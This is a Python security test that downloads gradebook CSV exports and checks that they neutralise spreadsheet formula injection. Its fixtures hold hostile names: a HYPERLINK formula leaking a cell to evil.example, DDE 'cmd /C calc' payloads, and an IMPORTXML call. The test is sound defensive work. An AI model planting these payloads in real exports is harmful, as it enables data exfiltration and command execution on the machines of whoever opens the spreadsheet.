"""Gradebook exports downloaded over HTTP carry no spreadsheet formula (CSV injection).

Residents choose their own names at registration; a name like ``=HYPERLINK(...)`` must
reach the instructor's spreadsheet as text. Every export kind is downloaded through the
real route and every cell of every line is checked.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from edu.exports.cells import FORMULA_PREFIXES
from edu.services import play
from tests.factories import PASSWORD, assign, create_course, enrol, sync_fixture_cases
from tests.security.world import make_user

PLAY = Path(__file__).resolve().parents[1] / "fixtures" / "play"
HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


@pytest.fixture
def course_with_hostile_names(app):
    instructor = make_user("instructor")
    course = create_course(instructor, title='=IMPORTXML("https://evil.example","//a")')
    case = sync_fixture_cases(PLAY / "play-short.md")[0]
    assign(course, case)
    for name in HOSTILE_NAMES:
        resident = make_user("resident", name=name)
        enrol(course, resident)
        attempt = play.start_attempt(resident.id, case, course_id=course.id)
        play.advance(attempt.id, resident.id, 0)
        play.decide(attempt.id, resident.id, 1, "THP_DOCETAXEL")
    return instructor, course.id


@pytest.mark.parametrize("kind", ["leaderboard", "canvas", "moodle", "research"])
def test_no_exported_cell_is_a_formula(client, course_with_hostile_names, kind):
    instructor, course_id = course_with_hostile_names
    client.post("/auth/login", data={"email": instructor.email, "password": PASSWORD})
    response = client.get(f"/courses/{course_id}/export/{kind}.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["Cache-Control"] == "no-store"  # names and grades
    text = response.get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    dangerous = [
        cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(cell)
    ]
    assert dangerous == [], dangerous
    if kind != "research":  # research exports may leave names out
        assert any("HYPERLINK" in cell for cell in cells), "the hostile names were not exported"
